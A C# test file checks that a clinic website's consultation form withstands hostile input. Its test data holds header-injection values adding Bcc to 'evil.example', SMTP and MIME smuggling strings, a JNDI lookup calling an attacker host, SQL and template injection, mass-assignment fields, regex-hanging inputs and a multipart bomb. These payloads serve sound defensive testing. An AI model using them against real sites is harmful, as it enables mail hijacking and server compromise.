using System.Net;
using System.Net.Http.Headers;
using System.Text;
using FacialParalysisSite.Web.Tests.Hosting;

namespace FacialParalysisSite.Web.Tests.Pages.Consultation;

/// <summary>Forms that try more than to ask for a consultation.</summary>
public sealed class HostileFormTests : IDisposable
{
    private readonly SiteHost _site = new SiteHost().WithMailFolder().With("Limits:Requests", "1000");
    private readonly Visitor _visitor;

    public HostileFormTests() => _visitor = new Visitor(_site);

    public void Dispose()
    {
        _visitor.Dispose();
        _site.Dispose();
    }

    [Theory]
    [InlineData("name", "Ada\r\nBcc: everybody@evil.example")]
    [InlineData("name", "Ada\u2028Bcc: everybody@evil.example")]
    [InlineData("email", "ada@example.org\r\nBcc: everybody@evil.example")]
    [InlineData("email", "ada@example.org,everybody@evil.example")]
    [InlineData("phone", "(310) 555-0123\nBcc: everybody@evil.example")]
    [InlineData("language", "English\r\nBcc: everybody@evil.example")]
    public async Task Send_ALineEndWhereOneLineIsAsked_IsAFaultOfThatField(string field, string value)
    {
        var answer = await _visitor.AskForConsultationAsync((field, value));

        Assert.Equal(HttpStatusCode.UnprocessableEntity, answer.Status);
        Assert.Contains("#" + field, answer.Page.QuerySelectorAll(".problem a").Select(link => link.GetAttribute("href")));
    }

    [Theory]
    [InlineData("می‌خواهم")]
    [InlineData("क्‍ष राम")]
    [InlineData("👩‍⚕️ O’Neil-Núñez")]
    [InlineData("Zoë \u202Eeilrahc")]
    [InlineData("A\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301da")]
    public async Task Send_ANameInAnyScript_ReachesTheClinicWithItsJoiners(string name)
    {
        Assert.Equal(HttpStatusCode.SeeOther, (await _visitor.AskForConsultationAsync(("name", name))).Status);

        var mail = Assert.Single(await _site.Mail.WaitForAsync(1));
        Assert.Contains("\u2068" + name.Replace("\u202E", "", StringComparison.Ordinal) + "\u2069", mail.Text, StringComparison.Ordinal);
        Assert.DoesNotContain('\u202E', mail.Text);
    }

    [Theory]
    [InlineData("\u0001\u001b[31m\u007f\u0085")]
    [InlineData("\ufffd\ufffe\uffff")]
    [InlineData("\r\n.\r\nQUIT\r\n")]
    [InlineData("--\r\nContent-Type: text/html\r\n\r\n<b>")]
    [InlineData("=?utf-8?q?evil?= %0d%0a {{7*7}} ${jndi:ldap://evil.example} ' OR 1=1;--")]
    public async Task Send_AMessageOfAnything_IsTextAndNothingElse(string message)
    {
        Assert.Equal(HttpStatusCode.SeeOther, (await _visitor.AskForConsultationAsync(("message", "first " + message + " last"))).Status);

        var mail = Assert.Single(await _site.Mail.WaitForAsync(1));
        Assert.Contains("first ", mail.Text, StringComparison.Ordinal);
        Assert.Contains(" last", mail.Text, StringComparison.Ordinal);
        Assert.DoesNotContain('\u001b', mail.Text);
    }

    /// <summary>What Unicode says is no character cannot be normalized.</summary>
    [Theory]
    [InlineData("name", HttpStatusCode.SeeOther)]
    [InlineData("email", HttpStatusCode.UnprocessableEntity)]
    [InlineData("phone", HttpStatusCode.UnprocessableEntity)]
    [InlineData("language", HttpStatusCode.SeeOther)]
    [InlineData("topic", HttpStatusCode.UnprocessableEntity)]
    public async Task Send_WhatIsNoCharacter_IsNoFaultOfTheSite(string field, HttpStatusCode expected)
    {
        foreach (var value in new[] { "(310) 555-0123\ufffe", "\uffff", "a\ufffe@example.org", "\U0001fffe" })
        {
            var answer = await _visitor.AskForConsultationAsync((field, value));

            Assert.Equal(expected, answer.Status);
            Assert.True(expected == HttpStatusCode.SeeOther || answer.Page.QuerySelector($"[name={field}]") is not null);
        }
    }

    /// <summary>No keyboard types it, and no form of ours sends it.</summary>
    [Theory]
    [InlineData("name")]
    [InlineData("email")]
    [InlineData("message")]
    public async Task Send_ANulCharacter_IsABrokenRequest(string field) =>
        Assert.Equal(HttpStatusCode.BadRequest, (await _visitor.AskForConsultationAsync((field, "a\0b"))).Status);

    [Fact]
    public async Task Send_BytesThatAreNoText_IsTakenAsTheyAreWritten()
    {
        await _visitor.OpenAsync();
        var fields = Visitor.FieldsOf(_visitor.Shown.Page).With(("name", "Ada"), ("phone", "(310) 555-0123"), ("agreed", "yes")).Without("message");
        var body = string.Join('&', fields.Select(field => $"{Uri.EscapeDataString(field.Key)}={Uri.EscapeDataString(field.Value)}")) + "&message=x%ED%A0%80%ED%B0%80%C0%AFy";

        Assert.Equal(HttpStatusCode.SeeOther, (await PostAsync(body)).StatusCode);
        Assert.Contains("x%ED%A0%80%ED%B0%80%C0%AFy", Assert.Single(await _site.Mail.WaitForAsync(1)).Text, StringComparison.Ordinal);
    }

    /// <summary>Only the fields of the form are read, each once.</summary>
    [Fact]
    public async Task Send_FieldsThatAreNotInTheForm_ChangesNothing()
    {
        var sent = await _visitor.AskForConsultationAsync(
            ("reference", "FP-AAAA-AAAA"), ("Reference", "FP-AAAA-AAAA"), ("Id", Guid.Empty.ToString()), ("IsSuspected", "true"), ("ReceivedAt", "1999-01-01"),
            ("State", "Sent"), ("Form.Name", "Eve"), ("to", "everybody@evil.example"), ("Mail:To", "everybody@evil.example"));

        Assert.Equal(HttpStatusCode.SeeOther, sent.Status);
        Assert.DoesNotContain("AAAA", sent.Location, StringComparison.Ordinal);
        var mail = Assert.Single(await _site.Mail.WaitForAsync(1));
        Assert.Equal("front@clinic.example, desk@clinic.example", mail.To);
        Assert.DoesNotContain("Eve", mail.Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Send_TheSameFieldTwice_TakesTheFirst()
    {
        await _visitor.OpenAsync();
        var fields = Visitor.FieldsOf(_visitor.Shown.Page).With(("name", "Ada"), ("phone", "(310) 555-0123"), ("agreed", "yes")).ToList();

        Assert.Equal(HttpStatusCode.SeeOther, (await _visitor.SendFormAsync([.. fields, new("name", "Eve"), new("phone", "(310) 555-6666")])).Status);

        var text = Assert.Single(await _site.Mail.WaitForAsync(1)).Text;
        Assert.Contains("Ada", text, StringComparison.Ordinal);
        Assert.DoesNotContain("6666", text, StringComparison.Ordinal);
    }

    /// <summary>Each is long enough to make a pattern that tries every way through hang for hours.</summary>
    [Theory]
    [InlineData("email", "a", "@")]
    [InlineData("email", "a.", "@b")]
    [InlineData("email", "a@b.", "")]
    [InlineData("phone", "1 ", "x")]
    [InlineData("phone", "a.", "1")]
    [InlineData("message", "a.", "\\")]
    [InlineData("message", "\\", "a")]
    [InlineData("message", "@", ".")]
    [InlineData("name", "\u0301", "a")]
    public async Task Send_WhatMakesPatternsHang_IsAnswered(string field, string piece, string end)
    {
        var value = string.Concat(Enumerable.Repeat(piece, 10_000)) + end;

        Assert.Equal(HttpStatusCode.UnprocessableEntity, (await _visitor.AskForConsultationAsync((field, value))).Status);
    }

    [Fact]
    public async Task Send_TheLongestMessageOfWhatLooksLikeAddresses_IsMailed()
    {
        Assert.Equal(HttpStatusCode.SeeOther, (await _visitor.AskForConsultationAsync(("message", string.Concat(Enumerable.Repeat("a.@", 666))))).Status);

        Assert.Single(await _site.Mail.WaitForAsync(1));
    }

    /// <summary>Each character is one of Thai with four marks, each of which takes nine bytes in a form.</summary>
    [Fact]
    public async Task Send_TheLongestMessageThatThereIs_IsTaken() =>
        Assert.Equal(HttpStatusCode.SeeOther, (await _visitor.AskForConsultationAsync(("message", string.Concat(Enumerable.Repeat("\u0e01\u0e34\u0e34\u0e34\u0e34", 2000))))).Status);

    /// <summary>The form is not sent that way, so that its parts are never unpacked.</summary>
    [Fact]
    public async Task Send_AMultipartBomb_IsRefusedUnread()
    {
        using var bomb = new MultipartFormDataContent();
        for (var part = 0; part < 500; part++)
        {
            bomb.Add(new ByteArrayContent([]), $"file{part}", $"file{part}.zip");
        }

        using var client = _site.CreateClient();
        using var answer = await client.PostAsync(new Uri("/consultation", UriKind.Relative), bomb);

        Assert.True(answer.StatusCode is HttpStatusCode.UnsupportedMediaType or HttpStatusCode.RequestEntityTooLarge);
    }

    private async Task<HttpResponseMessage> PostAsync(string body)
    {
        using var client = _site.CreateClient(new() { AllowAutoRedirect = false });
        using var request = new HttpRequestMessage(HttpMethod.Post, "/consultation") { Content = new ByteArrayContent(Encoding.ASCII.GetBytes(body)) };
        request.Content.Headers.ContentType = new MediaTypeHeaderValue("application/x-www-form-urlencoded");
        request.Headers.Add("Cookie", _visitor.Shown.Header("Set-Cookie")!.Split(';')[0]);
        return await client.SendAsync(request);
    }
}
